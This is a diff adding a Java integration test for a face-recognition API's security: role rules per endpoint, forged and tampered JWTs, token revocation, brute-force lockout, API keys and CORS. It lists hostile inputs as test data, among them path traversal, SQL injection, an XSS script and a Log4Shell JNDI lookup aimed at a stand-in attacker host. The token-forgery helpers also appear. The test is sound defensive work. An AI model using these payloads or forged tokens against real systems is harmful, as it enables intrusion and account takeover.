@@ -1,0 +1,482 @@
+package dev.facerec.api.security;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.nimbusds.jose.JOSEObjectType;
+import com.nimbusds.jose.JWSAlgorithm;
+import com.nimbusds.jose.JWSHeader;
+import com.nimbusds.jose.crypto.MACSigner;
+import com.nimbusds.jose.crypto.RSASSASigner;
+import com.nimbusds.jose.jwk.RSAKey;
+import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
+import com.nimbusds.jwt.JWTClaimsSet;
+import com.nimbusds.jwt.SignedJWT;
+import dev.facerec.api.TestHttp;
+import dev.facerec.api.ThrowawayDataFolder;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.time.Instant;
+import java.util.Base64;
+import java.util.Date;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.TreeSet;
+import java.util.UUID;
+import java.util.function.UnaryOperator;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.beans.factory.annotation.Qualifier;
+import org.springframework.boot.test.context.SpringBootTest;
+import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
+import org.springframework.boot.test.web.server.LocalServerPort;
+import org.springframework.test.context.DynamicPropertyRegistry;
+import org.springframework.test.context.DynamicPropertySource;
+import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
+import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
+import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.json.JsonMapper;
+
+/**
+ * Access control through real HTTP: every endpoint of the application's own mappings against its rule (so a new
+ * endpoint without a rule fails here), forged and revoked credentials, brute force, and hostile input.
+ */
+@SpringBootTest(
+        webEnvironment = WebEnvironment.RANDOM_PORT,
+        properties = {
+            "facerec.ml.models-dir=${facerec.models.dir}",
+            "facerec.security.jwt-secret-key=" + SecurityEndToEndIT.SECRET
+        })
+class SecurityEndToEndIT {
+    static final String SECRET = "it-secret-0123456789-abcdefghijklmnopqrstuvwxyz";
+    private static final String PASSWORD = "Long-Passphrase-For-Tests-2026";
+    private static final JsonMapper JSON = JsonMapper.builder().build();
+
+    /** Who may call each endpoint: PUBLIC, AUTHENTICATED (any signed-in caller), or the lowest role. */
+    private static final Map<String, String> RULES = new LinkedHashMap<>();
+
+    static {
+        for (String probe : List.of("/health", "/health/live", "/health/ready", "/api/v1/health")) {
+            RULES.put("GET " + probe, "PUBLIC");
+        }
+        RULES.put("POST /api/v1/auth/login", "PUBLIC");
+        RULES.put("POST /api/v1/auth/refresh", "PUBLIC");
+        RULES.put("POST /api/v1/auth/logout", "AUTHENTICATED");
+        RULES.put("POST /api/v1/auth/password", "AUTHENTICATED");
+        RULES.put("GET /api/v1/auth/me", "AUTHENTICATED");
+        RULES.put("POST /api/v1/auth/register", "ADMIN");
+        RULES.put("GET /health/detailed", "OPERATOR");
+        RULES.put("GET /metrics", "OPERATOR");
+        RULES.put("GET /metrics/prometheus", "OPERATOR");
+        RULES.put("GET /api/v1/upload/supported-formats", "VIEWER");
+        RULES.put("GET /upload/supported-formats", "VIEWER");
+        RULES.put("POST /api/v1/faces/detect", "VIEWER");
+        RULES.put("POST /api/v1/faces/compare", "VIEWER");
+        RULES.put("POST /api/v1/identify", "VIEWER");
+        RULES.put("POST /api/v1/persons/{personId}/verify", "VIEWER");
+        RULES.put("POST /api/v1/galleries", "OPERATOR");
+        RULES.put("GET /api/v1/galleries", "OPERATOR");
+        RULES.put("GET /api/v1/galleries/{id}", "OPERATOR");
+        RULES.put("DELETE /api/v1/galleries/{id}", "OPERATOR");
+        RULES.put("POST /api/v1/persons", "OPERATOR");
+        RULES.put("GET /api/v1/persons", "OPERATOR");
+        RULES.put("GET /api/v1/persons/{id}", "OPERATOR");
+        RULES.put("PATCH /api/v1/persons/{id}", "OPERATOR");
+        RULES.put("DELETE /api/v1/persons/{id}", "OPERATOR");
+        RULES.put("POST /api/v1/persons/{personId}/faces", "OPERATOR");
+        RULES.put("GET /api/v1/persons/{personId}/faces", "OPERATOR");
+        RULES.put("DELETE /api/v1/persons/{personId}/faces/{faceId}", "OPERATOR");
+        RULES.put("GET /api/v1/persons/{personId}/faces/{faceId}/image", "OPERATOR");
+        RULES.put("GET /api/v1/users", "ADMIN");
+        RULES.put("GET /api/v1/users/{id}", "ADMIN");
+        RULES.put("PATCH /api/v1/users/{id}", "ADMIN");
+        RULES.put("POST /api/v1/api-keys", "ADMIN");
+        RULES.put("GET /api/v1/api-keys", "ADMIN");
+        RULES.put("DELETE /api/v1/api-keys/{id}", "ADMIN");
+    }
+
+    @TempDir
+    static Path dataDir;
+
+    @DynamicPropertySource
+    static void dataFolder(DynamicPropertyRegistry registry) {
+        ThrowawayDataFolder.register(registry, dataDir);
+    }
+
+    @LocalServerPort
+    int port;
+
+    @Autowired
+    @Qualifier("requestMappingHandlerMapping")
+    RequestMappingHandlerMapping mappings;
+
+    private TestHttp admin;
+    private static boolean registered;
+    private String viewerToken;
+    private String operatorToken;
+
+    /** One viewer and one operator for the whole class (the context, and so the database, is shared). */
+    @BeforeEach
+    void accounts() throws Exception {
+        admin = new TestHttp(port);
+        if (!registered) {
+            register("viewer", "VIEWER");
+            register("operator", "OPERATOR");
+            registered = true;
+        }
+        viewerToken = TestHttp.signIn(port, "viewer", PASSWORD);
+        operatorToken = TestHttp.signIn(port, "operator", PASSWORD);
+    }
+
+    private String register(String name, String role) throws Exception {
+        HttpResponse<String> created = admin.postJson(
+                "/api/v1/auth/register",
+                "{\"username\":\"" + name + "\",\"password\":\"" + PASSWORD + "\",\"role\":\"" + role + "\"}");
+        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
+        return JSON.readTree(created.body()).get("id").asString();
+    }
+
+    @Test
+    void everyEndpointHasAKnownRuleAndAnswersAnonymousAndLesserRolesWithProblems() throws Exception {
+        Set<String> mapped = new TreeSet<>();
+        for (RequestMappingInfo info : mappings.getHandlerMethods().keySet()) {
+            Set<String> patterns = info.getPatternValues();
+            if (patterns.contains("/error") || patterns.stream().anyMatch(p -> p.startsWith("${"))) {
+                continue;
+            }
+            for (String pattern : patterns) {
+                info.getMethodsCondition().getMethods().forEach(method -> mapped.add(method.name() + " " + pattern));
+            }
+        }
+        assertThat(mapped)
+                .as("every endpoint needs its rule in this test (and in EndpointRules)")
+                .containsExactlyInAnyOrderElementsOf(RULES.keySet());
+
+        for (Map.Entry<String, String> rule : RULES.entrySet()) {
+            String method = rule.getKey().split(" ")[0];
+            String path = rule.getKey()
+                    .split(" ")[1]
+                    .replaceAll("\\{[^}]+}", UUID.randomUUID().toString());
+            HttpResponse<String> anonymous = TestHttp.anonymous(port).call(method, path);
+            if (rule.getValue().equals("PUBLIC")) {
+                assertThat(anonymous.statusCode()).as(rule.getKey()).isNotIn(401, 403);
+                continue;
+            }
+            assertProblem(anonymous, 401, "UNAUTHENTICATED", rule.getKey());
+            assertThat(anonymous.headers().firstValue("WWW-Authenticate"))
+                    .as(rule.getKey())
+                    .isPresent();
+            String lesser = switch (rule.getValue()) {
+                case "ADMIN" -> operatorToken;
+                case "OPERATOR" -> viewerToken;
+                default -> null;
+            };
+            if (lesser != null) {
+                assertProblem(TestHttp.withToken(port, lesser).call(method, path), 403, "FORBIDDEN", rule.getKey());
+            }
+            String allowed = switch (rule.getValue()) {
+                case "ADMIN" -> null;
+                case "OPERATOR" -> operatorToken;
+                default -> TestHttp.signIn(port, "viewer", PASSWORD);
+            };
+            HttpResponse<String> permitted = allowed == null
+                    ? admin.call(method, path)
+                    : TestHttp.withToken(port, allowed).call(method, path);
+            assertThat(permitted.statusCode())
+                    .as(rule.getKey() + " " + permitted.body())
+                    .isNotIn(401, 403);
+        }
+    }
+
+    @Test
+    void theRightCredentialsWorkAndResponsesCarrySecurityHeaders() throws Exception {
+        HttpResponse<String> galleries = TestHttp.withToken(port, operatorToken).getText("/api/v1/galleries");
+        assertThat(galleries.statusCode()).isEqualTo(200);
+        var headers = galleries.headers();
+        assertThat(headers.firstValue("X-Content-Type-Options")).contains("nosniff");
+        assertThat(headers.firstValue("X-Frame-Options")).contains("DENY");
+        assertThat(headers.firstValue("Strict-Transport-Security"))
+                .hasValueSatisfying(v -> assertThat(v).contains("max-age=31536000"));
+        assertThat(headers.firstValue("Content-Security-Policy"))
+                .contains("default-src 'none'; frame-ancestors 'none'");
+        assertThat(headers.firstValue("Referrer-Policy")).contains("no-referrer");
+        assertThat(headers.firstValue("Server")).isEmpty();
+        assertThat(JSON.readTree(TestHttp.withToken(port, viewerToken)
+                                .getText("/api/v1/auth/me")
+                                .body())
+                        .get("role")
+                        .asString())
+                .isEqualTo("VIEWER");
+    }
+
+    @Test
+    void forgedExpiredAndMisdirectedTokensAreRefused() throws Exception {
+        Map<String, String> forged = new LinkedHashMap<>();
+        forged.put("alg none", unsigned(claims(UnaryOperator.identity())));
+        forged.put(
+                "wrong secret", hs256(claims(UnaryOperator.identity()), "another-secret-0123456789-abcdefghijklmnop"));
+        forged.put("RS256 instead of HS256", rs256(claims(UnaryOperator.identity())));
+        forged.put(
+                "expired",
+                hs256(claims(c -> c.expirationTime(Date.from(Instant.now().minusSeconds(300)))), SECRET));
+        forged.put(
+                "not yet valid",
+                hs256(claims(c -> c.notBeforeTime(Date.from(Instant.now().plusSeconds(300)))), SECRET));
+        forged.put("wrong issuer", hs256(claims(c -> c.issuer("someone-else")), SECRET));
+        forged.put("wrong audience", hs256(claims(c -> c.audience("another-api")), SECRET));
+        forged.put("no expiry", hs256(claims(c -> c.expirationTime(null)), SECRET));
+        forged.put(
+                "unknown subject", hs256(claims(c -> c.subject(UUID.randomUUID().toString())), SECRET));
+        forged.put("tampered payload", tampered(viewerToken));
+        forged.put("garbage", "not.a.token");
+        for (Map.Entry<String, String> token : forged.entrySet()) {
+            assertProblem(
+                    TestHttp.withToken(port, token.getValue()).getText("/api/v1/users"),
+                    401,
+                    "UNAUTHENTICATED",
+                    token.getKey());
+        }
+        assertThat(hs256(claims(UnaryOperator.identity()), SECRET))
+                .as("the same claims, rightly signed, pass: the refusals above are for the forgery")
+                .satisfies(valid -> assertThat(TestHttp.withToken(port, valid)
+                                .getText("/api/v1/users")
+                                .statusCode())
+                        .isEqualTo(200));
+    }
+
+    @Test
+    void logoutDisableAndPasswordChangeEndTokensAtOnce() throws Exception {
+        String id = register("leaver", "OPERATOR");
+        JsonNode session = login("leaver", PASSWORD);
+        String access = session.get("accessToken").asString();
+        String refresh = session.get("refreshToken").asString();
+        assertThat(TestHttp.withToken(port, access).getText("/api/v1/galleries").statusCode())
+                .isEqualTo(200);
+
+        HttpResponse<String> out = TestHttp.withToken(port, access)
+                .postJson("/api/v1/auth/logout", "{\"refreshToken\":\"" + refresh + "\"}");
+        assertThat(out.statusCode()).isEqualTo(204);
+        assertProblem(TestHttp.withToken(port, access).getText("/api/v1/galleries"), 401, "UNAUTHENTICATED", "logout");
+        assertProblem(
+                TestHttp.anonymous(port).postJson("/api/v1/auth/refresh", "{\"refreshToken\":\"" + refresh + "\"}"),
+                401,
+                "UNAUTHENTICATED",
+                "refresh after logout");
+
+        String again = TestHttp.signIn(port, "leaver", PASSWORD);
+        HttpResponse<String> disabled =
+                admin.send(java.net.http.HttpRequest.newBuilder(admin.uri("/api/v1/users/" + id))
+                        .header("Content-Type", "application/json")
+                        .method("PATCH", java.net.http.HttpRequest.BodyPublishers.ofString("{\"enabled\":false}"))
+                        .build());
+        assertThat(disabled.statusCode()).as(disabled.body()).isEqualTo(200);
+        assertProblem(TestHttp.withToken(port, again).getText("/api/v1/galleries"), 401, "UNAUTHENTICATED", "disabled");
+        assertProblem(
+                TestHttp.anonymous(port)
+                        .postJson("/api/v1/auth/login", "{\"username\":\"leaver\",\"password\":\"" + PASSWORD + "\"}"),
+                401,
+                "UNAUTHENTICATED",
+                "disabled sign-in");
+    }
+
+    @Test
+    void aReusedRefreshTokenRevokesTheSignIn() throws Exception {
+        JsonNode first = login("viewer", PASSWORD);
+        String oldRefresh = first.get("refreshToken").asString();
+        JsonNode second = JSON.readTree(TestHttp.anonymous(port)
+                .postJson("/api/v1/auth/refresh", "{\"refreshToken\":\"" + oldRefresh + "\"}")
+                .body());
+        String newRefresh = second.get("refreshToken").asString();
+        assertProblem(
+                TestHttp.anonymous(port).postJson("/api/v1/auth/refresh", "{\"refreshToken\":\"" + oldRefresh + "\"}"),
+                401,
+                "UNAUTHENTICATED",
+                "reuse");
+        assertProblem(
+                TestHttp.anonymous(port).postJson("/api/v1/auth/refresh", "{\"refreshToken\":\"" + newRefresh + "\"}"),
+                401,
+                "UNAUTHENTICATED",
+                "the family is revoked");
+    }
+
+    @Test
+    void bruteForceLocksTheAccountOutEvenForTheRightPassword() throws Exception {
+        register("target", "VIEWER");
+        for (int i = 0; i < 5; i++) {
+            assertProblem(
+                    TestHttp.anonymous(port)
+                            .postJson(
+                                    "/api/v1/auth/login", "{\"username\":\"target\",\"password\":\"guess-" + i + "\"}"),
+                    401,
+                    "UNAUTHENTICATED",
+                    "guess " + i);
+        }
+        HttpResponse<String> locked = TestHttp.anonymous(port)
+                .postJson("/api/v1/auth/login", "{\"username\":\"target\",\"password\":\"" + PASSWORD + "\"}");
+        assertProblem(locked, 429, "RATE_LIMITED", "locked");
+        assertThat(locked.headers().firstValue("Retry-After")).contains("900");
+    }
+
+    @Test
+    void anApiKeyWorksWithinItsRoleAndStopsAtOnceWhenRevoked() throws Exception {
+        HttpResponse<String> created = admin.postJson("/api/v1/api-keys", "{\"name\":\"ci\",\"role\":\"OPERATOR\"}");
+        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
+        assertThat(created.headers().firstValue("Cache-Control"))
+                .hasValueSatisfying(v -> assertThat(v).contains("no-store"));
+        JsonNode body = JSON.readTree(created.body());
+        String key = body.get("key").asString();
+        String id = body.get("apiKey").get("id").asString();
+        TestHttp client = TestHttp.withHeader(port, "X-API-Key", key);
+        assertThat(client.getText("/api/v1/galleries").statusCode()).isEqualTo(200);
+        assertProblem(client.getText("/api/v1/api-keys"), 403, "FORBIDDEN", "operator key on admin endpoint");
+        assertThat(admin.getText("/api/v1/api-keys").body()).contains(id).doesNotContain(key);
+
+        assertThat(admin.call("DELETE", "/api/v1/api-keys/" + id).statusCode()).isEqualTo(204);
+        assertProblem(client.getText("/api/v1/galleries"), 401, "UNAUTHENTICATED", "revoked key");
+        assertProblem(
+                TestHttp.anonymous(port).getText("/api/v1/galleries?api_key=" + key),
+                400,
+                "INVALID_REQUEST",
+                "key in the URL");
+        assertProblem(
+                TestHttp.withHeader(port, "X-API-Key", "frk_0123456789ab.forged")
+                        .getText("/api/v1/galleries"),
+                401,
+                "UNAUTHENTICATED",
+                "forged key");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "../../etc/passwd",
+                "x'; drop table galleries; --",
+                "<script>alert(1)</script>",
+                "${jndi:ldap://attacker/a}",
+                "%00%2e%2e%2f"
+            })
+    void hostileNamesAreStoredVerbatimOrRefusedAndChangeNothing(String hostile) throws Exception {
+        HttpResponse<String> gallery =
+                admin.postJson("/api/v1/galleries", "{\"name\":" + JSON.writeValueAsString(hostile) + "}");
+        assertThat(gallery.statusCode()).as(gallery.body()).isIn(201, 400);
+        if (gallery.statusCode() == 201) {
+            String id = JSON.readTree(gallery.body()).get("id").asString();
+            assertThat(JSON.readTree(admin.getText("/api/v1/galleries/" + id).body())
+                            .get("name")
+                            .asString())
+                    .isEqualTo(hostile);
+            HttpResponse<String> person = admin.postJson(
+                    "/api/v1/persons",
+                    "{\"name\":" + JSON.writeValueAsString(hostile) + ",\"galleryId\":\"" + id
+                            + "\",\"metadata\":{\"note\":" + JSON.writeValueAsString(hostile) + "}}");
+            assertThat(person.statusCode()).as(person.body()).isEqualTo(201);
+        }
+        String encoded = java.net.URLEncoder.encode(hostile, StandardCharsets.UTF_8);
+        for (String path : List.of(
+                "/api/v1/persons?galleryId=" + encoded,
+                "/api/v1/persons?name=" + encoded,
+                "/api/v1/galleries/" + encoded,
+                "/api/v1/persons/" + UUID.randomUUID() + "/faces/" + encoded + "/image")) {
+            HttpResponse<String> response = admin.getText(path);
+            assertThat(response.statusCode()).as(path + " " + response.body()).isBetween(200, 499);
+            assertThat(response.body()).doesNotContain("Exception").doesNotContain("at dev.facerec");
+        }
+        assertThat(admin.getText("/api/v1/galleries").statusCode())
+                .as("the table is still there")
+                .isEqualTo(200);
+    }
+
+    @Test
+    void corsIsClosedByDefault() throws Exception {
+        HttpResponse<String> preflight = admin.send(java.net.http.HttpRequest.newBuilder(admin.uri("/api/v1/galleries"))
+                .header("Origin", "https://evil.example")
+                .header("Access-Control-Request-Method", "GET")
+                .method("OPTIONS", java.net.http.HttpRequest.BodyPublishers.noBody())
+                .build());
+        assertThat(preflight.headers().firstValue("Access-Control-Allow-Origin"))
+                .isEmpty();
+    }
+
+    private JsonNode login(String username, String password) throws Exception {
+        HttpResponse<String> response = TestHttp.anonymous(port)
+                .postJson(
+                        "/api/v1/auth/login", "{\"username\":\"" + username + "\",\"password\":\"" + password + "\"}");
+        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
+        assertThat(response.headers().firstValue("Cache-Control"))
+                .hasValueSatisfying(v -> assertThat(v).contains("no-store"));
+        return JSON.readTree(response.body());
+    }
+
+    private static void assertProblem(HttpResponse<String> response, int status, String code, String what) {
+        assertThat(response.statusCode()).as(what + ": " + response.body()).isEqualTo(status);
+        assertThat(response.headers().firstValue("Content-Type"))
+                .as(what)
+                .hasValueSatisfying(type -> assertThat(type).startsWith("application/problem+json"));
+        JsonNode body = JSON.readTree(response.body());
+        assertThat(body.get("code").asString()).as(what).isEqualTo(code);
+        assertThat(body.get("requestId")).as(what).isNotNull();
+        assertThat(body.get("detail").asString()).as(what).isNotBlank();
+    }
+
+    /** Claims an admin token of the built-in issuer would carry, for the first account (the administrator). */
+    private JWTClaimsSet claims(UnaryOperator<JWTClaimsSet.Builder> change) throws Exception {
+        JsonNode users = JSON.readTree(admin.getText("/api/v1/users").body()).get("items");
+        String adminId = null;
+        for (JsonNode user : users) {
+            if (user.get("username").asString().equals(TestHttp.ADMIN)) {
+                adminId = user.get("id").asString();
+            }
+        }
+        Instant now = Instant.now();
+        return change.apply(new JWTClaimsSet.Builder()
+                        .issuer("facerec")
+                        .audience("facerec-api")
+                        .subject(adminId)
+                        .jwtID(UUID.randomUUID().toString())
+                        .issueTime(Date.from(now))
+                        .notBeforeTime(Date.from(now))
+                        .expirationTime(Date.from(now.plusSeconds(600)))
+                        .claim("roles", List.of("ADMIN")))
+                .build();
+    }
+
+    private static String hs256(JWTClaimsSet claims, String secret) throws Exception {
+        SignedJWT jwt = new SignedJWT(
+                new JWSHeader.Builder(JWSAlgorithm.HS256)
+                        .type(JOSEObjectType.JWT)
+                        .build(),
+                claims);
+        jwt.sign(new MACSigner(secret.getBytes(StandardCharsets.UTF_8)));
+        return jwt.serialize();
+    }
+
+    private static String rs256(JWTClaimsSet claims) throws Exception {
+        RSAKey key = new RSAKeyGenerator(2048).generate();
+        SignedJWT jwt = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.RS256).build(), claims);
+        jwt.sign(new RSASSASigner(key));
+        return jwt.serialize();
+    }
+
+    private static String unsigned(JWTClaimsSet claims) {
+        Base64.Encoder url = Base64.getUrlEncoder().withoutPadding();
+        return url.encodeToString("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8)) + "."
+                + url.encodeToString(claims.toString().getBytes(StandardCharsets.UTF_8)) + ".";
+    }
+
+    /** The viewer's real token with its payload changed to claim ADMIN; the signature is the original one. */
+    private static String tampered(String token) {
+        String[] parts = token.split("\\.");
+        String payload = new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8)
+                .replace("\"VIEWER\"", "\"ADMIN\"");
+        assertThat(payload).contains("\"ADMIN\"");
+        return parts[0] + "."
+                + Base64.getUrlEncoder().withoutPadding().encodeToString(payload.getBytes(StandardCharsets.UTF_8)) + "."
+                + parts[2];
+    }
+}
